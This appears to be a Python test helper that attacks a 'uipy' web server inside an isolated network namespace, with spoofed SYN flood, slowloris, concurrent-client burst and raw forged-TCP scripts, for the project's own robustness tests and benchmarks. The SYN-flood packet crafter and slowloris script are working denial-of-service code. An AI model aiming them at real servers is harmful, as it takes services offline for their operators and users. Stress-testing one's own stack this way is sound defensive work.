"""Attacks on a uipy server from inside a test namespace (host only, needs root):
a spoofed SYN flood, slowloris, a burst of clients, a raw TCP peer (tiny MSS,
forged segments).  Used by host_tests/test_attacks.py and tools/bench/bench_attacks.py.

Spoofed sources come from SPOOF_NET (198.19.0.0/16) only, and every frame is
sent on the kernel's own TAP interface inside the namespace (AF_PACKET), with
the stack's MAC as destination: nothing leaves the namespace.  Replies to a
spoofed source go either to the SYN's own Ethernet source (a made-up MAC the
kernel drops) or, routed, to the kernel, which does not forward.

The scripts (FLOOD, SLOWLORIS, BURST, FETCH_LOOP) run inside the namespace
(ns.popen / ns.run with sys.executable -c SCRIPT args) and print one JSON line;
every loop in them is bounded by a count or a deadline.
"""
import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time

from packet_link import socket_in_netns

SPOOF_NET = ipaddress.ip_network("198.19.0.0/16")
ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4

FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def spoof_ip(i):
    """The i-th spoofed source, always inside SPOOF_NET."""
    ip = SPOOF_NET.network_address + 1 + (i % (SPOOF_NET.num_addresses - 2))
    assert ip in SPOOF_NET
    return str(ip)


def csum(data):
    if len(data) & 1:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp_frame(dst_mac, src_mac, src_ip, dst_ip, sport, dport, seq, ack, flags, payload=b"",
              opts=b"", win=65535, ip_id=0):
    """One Ethernet + IPv4 + TCP frame, checksums filled in."""
    src = socket.inet_aton(src_ip)
    dst = socket.inet_aton(dst_ip)
    hlen = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      (hlen // 4) << 4, flags, win, 0, 0) + opts + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + tcp


def mss_option(mss):
    return struct.pack("!BBH", 2, 4, mss)


def parse_tcp(frame):
    """(src_ip, dst_ip, sport, dport, seq, ack, flags, win, options, payload) or None."""
    if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    ihl = (frame[14] & 15) * 4
    tot = struct.unpack_from("!H", frame, 16)[0]
    t = 14 + ihl
    sport, dport, seq, ack, off, flags, win = struct.unpack_from("!HHIIBBH", frame, t)
    doff = (off >> 4) * 4
    return (socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34]), sport, dport, seq, ack,
            flags, win, bytes(frame[t + 20:t + doff]), bytes(frame[t + doff:14 + tot]))


def option_mss(opts):
    i = 0
    while i < len(opts):
        kind = opts[i]
        if kind == 0:
            break
        if kind == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2:
            break
        if kind == 2 and opts[i + 1] == 4:
            return struct.unpack_from("!H", opts, i + 2)[0]
        i += opts[i + 1]
    return None


def local_mac(seed):
    """A locally administered unicast MAC (02:19:...)."""
    return bytes([0x02, 0x19]) + struct.pack("!I", seed & 0xFFFFFFFF)


class RawPeer:
    """A TCP client made by hand on an AF_PACKET socket on the kernel's TAP
    interface: source ip from SPOOF_NET, its own MAC.  The stack answers a SYN
    to that MAC and routes everything else through its gateway (the kernel's
    MAC); this socket sees both.  Not a full TCP: enough to open, request,
    receive in order (out-of-order segments kept), ACK every segment, close.

    frames: every frame the stack sent on this connection (bytes, Ethernet
    header included), for wire counts."""

    def __init__(self, ns_name, ifname, stack_mac, stack_ip, ip, port=80, sport=None, win=65535):
        if ipaddress.ip_address(ip) not in SPOOF_NET:
            raise ValueError("RawPeer: %s is outside %s" % (ip, SPOOF_NET))
        self.sock = socket_in_netns(ns_name, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((ifname, ETH_P_ALL))
        self.sock.setblocking(False)
        self.stack_mac = stack_mac
        self.stack_ip = stack_ip
        self.ip = ip
        self.mac = local_mac(int(ipaddress.ip_address(ip)))
        self.port = port
        self.sport = sport or 20000 + int.from_bytes(os.urandom(2), "big") % 40000
        self.win = win
        self.iss = int.from_bytes(os.urandom(4), "big")
        self.snd_nxt = self.iss
        self.irs = self.rcv_nxt = None
        self.peer_mss = None
        self.frames = []
        self.data = bytearray()
        self.ooo = {}
        self.fin = False
        self.rst = False

    def close_socket(self):
        self.sock.close()

    def send(self, flags, seq=None, ack=None, payload=b"", opts=b""):
        f = tcp_frame(self.stack_mac, self.mac, self.ip, self.stack_ip, self.sport, self.port,
                      self.snd_nxt if seq is None else seq,
                      (self.rcv_nxt or 0) if ack is None else ack, flags, payload, opts, self.win)
        self.sock.send(f)

    def segments(self, timeout):
        """Segments from the stack on this connection until timeout (s) passes
        with none; yields parsed tuples (and keeps the raw frames)."""
        deadline = time.monotonic() + timeout
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return
            for _ in range(256):
                try:
                    frame, addr = self.sock.recvfrom(2048)
                except BlockingIOError:
                    break
                if addr[2] == PACKET_OUTGOING:
                    continue
                p = parse_tcp(frame)
                if p is None or p[0] != self.stack_ip or p[1] != self.ip or p[2] != self.port or p[3] != self.sport:
                    continue
                self.frames.append(frame)
                yield p

    def open(self, mss=1460, timeout=3.0):
        self.send(SYN, seq=self.iss, ack=0, opts=mss_option(mss))
        self.snd_nxt = self.iss + 1
        for p in self.segments(timeout):
            if p[6] & (SYN | ACK) == SYN | ACK and p[5] == self.snd_nxt & 0xFFFFFFFF:
                self.irs = p[4]
                self.rcv_nxt = (p[4] + 1) & 0xFFFFFFFF
                self.peer_mss = option_mss(p[8])
                self.send(ACK)
                return True
        return False

    def _take(self, p):
        """Add a segment's data; returns True when rcv_nxt moved."""
        seq, flags, payload = p[4], p[6], p[9]
        if flags & RST:
            self.rst = True
            return False
        moved = False
        off = (seq - self.rcv_nxt) & 0xFFFFFFFF
        if payload and off < 0x80000000:
            self.ooo[seq] = payload
        elif payload:                         # partly or wholly old
            back = (self.rcv_nxt - seq) & 0xFFFFFFFF
            if back < len(payload):
                self.ooo[self.rcv_nxt] = payload[back:]
        if flags & FIN:
            self.ooo.setdefault((seq + len(payload)) & 0xFFFFFFFF, b"")
            self._fin_at = (seq + len(payload)) & 0xFFFFFFFF
        while self.rcv_nxt in self.ooo:
            chunk = self.ooo.pop(self.rcv_nxt)
            if not chunk:
                if getattr(self, "_fin_at", None) == self.rcv_nxt:
                    self.rcv_nxt = (self.rcv_nxt + 1) & 0xFFFFFFFF
                    self.fin = True
                    moved = True
                break
            self.data += chunk
            self.rcv_nxt = (self.rcv_nxt + len(chunk)) & 0xFFFFFFFF
            moved = True
        return moved

    def request(self, payload, until_fin=True, timeout=10.0, idle_s=2.0):
        """Send payload, receive (ACKing each segment) until the stack's FIN,
        a RST, timeout, or idle_s without a segment."""
        self.send(PSH | ACK, payload=payload)
        self.snd_nxt = (self.snd_nxt + len(payload)) & 0xFFFFFFFF
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and not self.rst and not (until_fin and self.fin):
            got = False
            for p in self.segments(min(idle_s, max(0.01, deadline - time.monotonic()))):
                got = True
                self._take(p)
                if p[6] & RST:
                    break
                if p[9] or p[6] & FIN:
                    self.send(ACK)
                if self.fin and until_fin:
                    break
            if not got:
                break
        return bytes(self.data)

    def close(self, timeout=1.0):
        """Our FIN after theirs; wait for its ACK (bounded)."""
        if self.rst:
            return
        self.send(FIN | ACK)
        self.snd_nxt = (self.snd_nxt + 1) & 0xFFFFFFFF
        for p in self.segments(timeout):
            if p[6] & ACK and p[5] == self.snd_nxt:
                return


def http_body(data):
    head, _, body = bytes(data).partition(b"\r\n\r\n")
    return head, body


# --- scripts run inside the namespace (print one JSON line) ---

FLOOD = r"""
import json, os, socket, struct, sys, time
ifname, dst_mac, dst_ip, port, pps, secs = sys.argv[1], bytes.fromhex(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
def csum(d):
    if len(d) & 1: d += b"\0"
    s = sum(struct.unpack("!%dH" % (len(d) // 2), d))
    while s >> 16: s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF
dst = socket.inet_aton(dst_ip)
frames = []
for i in range(4096):
    r = os.urandom(8)
    a = 1 + (i * 40503) % 65534
    src = bytes([198, 19, a >> 8, a & 255])             # 198.19.0.0/16 only
    sport = 1024 + struct.unpack("!H", r[:2])[0] % 60000
    seq = struct.unpack("!I", r[2:6])[0]
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + struct.pack("!BBH", 2, 4, 1460)
    tcp = tcp[:16] + struct.pack("!H", csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    mac = bytes([2, 0x19, 0x5f, r[6], r[7], i & 255])
    frames.append(dst_mac + mac + b"\x08\x00" + ip + tcp)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind((ifname, 3))
t0 = time.monotonic()
sent = errors = 0
limit = int(pps * secs)
while sent < limit:
    el = time.monotonic() - t0
    if el > secs + 2:
        break
    due = min(limit, int(el * pps) + 1)
    while sent < due:
        try:
            s.send(frames[sent % len(frames)])
        except OSError:
            errors += 1
        sent += 1
    time.sleep(0.002)
print(json.dumps({"sent": sent, "errors": errors, "secs": time.monotonic() - t0}))
"""

# n connections that send a request head one byte every gap s (never finished);
# a connection the server closes or resets is counted and opened again
SLOWLORIS = r"""
import json, socket, sys, threading, time
ip, n, secs, gap = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 2000
stats = {"connects": 0, "ended": 0, "failed": 0, "bytes": 0}
lock = threading.Lock()
end = time.monotonic() + secs
def worker():
    while time.monotonic() < end:
        try:
            s = socket.create_connection((ip, 80), timeout=3)
        except OSError:
            with lock: stats["failed"] += 1
            time.sleep(0.2)
            continue
        with lock: stats["connects"] += 1
        s.settimeout(0)
        i = 0
        try:
            while time.monotonic() < end and i < len(HEAD):
                s.send(HEAD[i:i + 1])
                i += 1
                with lock: stats["bytes"] += 1
                t = time.monotonic() + gap
                while time.monotonic() < t:
                    try:
                        if not s.recv(4096):
                            raise ConnectionError("closed")
                    except BlockingIOError:
                        pass
                    time.sleep(0.05)
            else:
                pass
        except OSError:
            with lock: stats["ended"] += 1
        finally:
            s.close()
ts = [threading.Thread(target=worker, daemon=True) for _ in range(n)]
for t in ts: t.start(); time.sleep(0.02)
for t in ts: t.join(secs + 10)
print(json.dumps(stats))
"""

# n clients at once (a barrier), each: connect, GET with Connection: close,
# read to the end; limit s for all of them
BURST = r"""
import json, socket, sys, threading, time
ip, n, limit, size = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
res = [None] * n
bar = threading.Barrier(n, timeout=30)
end = [0.0]
def client(k):
    try:
        bar.wait()
    except threading.BrokenBarrierError:
        pass
    t0 = time.monotonic()
    try:
        s = socket.create_connection((ip, 80), timeout=max(0.1, end[0] - t0))
        s.settimeout(max(0.1, end[0] - time.monotonic()))
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            s.settimeout(max(0.05, end[0] - time.monotonic()))
            b = s.recv(65536)
            if not b:
                break
            data += b
        s.close()
        head, _, body = data.partition(b"\r\n\r\n")
        ok = head.startswith(b"HTTP/1.1 200") and len(body) == size
        res[k] = [ok, time.monotonic() - t0, "" if ok else head[:40].decode(errors="replace")]
    except Exception as e:
        res[k] = [False, time.monotonic() - t0, type(e).__name__ + ": " + str(e)[:60]]
end[0] = time.monotonic() + limit + 1          # (the barrier: all started within about a second)
ts = [threading.Thread(target=client, args=(k,), daemon=True) for k in range(n)]
for t in ts: t.start()
end[0] = time.monotonic() + limit
for t in ts: t.join(max(0.1, end[0] - time.monotonic() + 2))
res = [r or [False, limit, "unfinished"] for r in res]
errs = {}
for r in res:
    if not r[0]: errs[r[2]] = errs.get(r[2], 0) + 1
print(json.dumps({"ok": sum(1 for r in res if r[0] and r[1] <= limit), "n": n,
                  "max_s": max(r[1] for r in res), "errors": errs}))
"""

# curl fetches the page back to back (a new connection each time) for secs s
FETCH_LOOP = r"""
import json, subprocess, sys, time
curl, url, secs, size, count = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
times, fails = [], []
end = time.monotonic() + secs
while time.monotonic() < end and len(times) + len(fails) < count:
    r = subprocess.run([curl, "-s", "-S", "--max-time", "10", "-o", "/dev/null", "-w",
                        "%{http_code} %{size_download} %{time_total}", url],
                       capture_output=True, text=True, timeout=15)
    f = r.stdout.split()
    if r.returncode == 0 and len(f) == 3 and f[0] == "200" and int(f[1]) == size:
        times.append(float(f[2]))
    else:
        fails.append([r.returncode, r.stdout[-60:], r.stderr[-120:]])
    time.sleep(0.02)
print(json.dumps({"times": times, "fails": fails}))
"""


def script_cmd(script, *args):
    return [sys.executable, "-c", script] + [str(a) for a in args]


def run_json(ns, script, *args, timeout=60):
    r = ns.run(script_cmd(script, *args), timeout=timeout, check=False)
    if r.returncode != 0:
        raise RuntimeError("attack script failed (%d): %s" % (r.returncode, (r.stdout + r.stderr)[-2000:]))
    return json.loads(r.stdout.strip().splitlines()[-1])


def start_json(ns, script, *args):
    """popen inside ns; finish_json(p) for its result."""
    return ns.popen(script_cmd(script, *args), text=True)


def finish_json(p, timeout=60):
    out, err = p.communicate(timeout=timeout)
    if p.returncode != 0:
        raise RuntimeError("attack script failed (%d): %s" % (p.returncode, (out + err)[-2000:]))
    return json.loads(out.strip().splitlines()[-1])


def percentile(values, q):
    if not values:
        return None
    v = sorted(values)
    k = min(len(v) - 1, max(0, int(round(q / 100.0 * len(v) + 0.5)) - 1))
    return v[k]
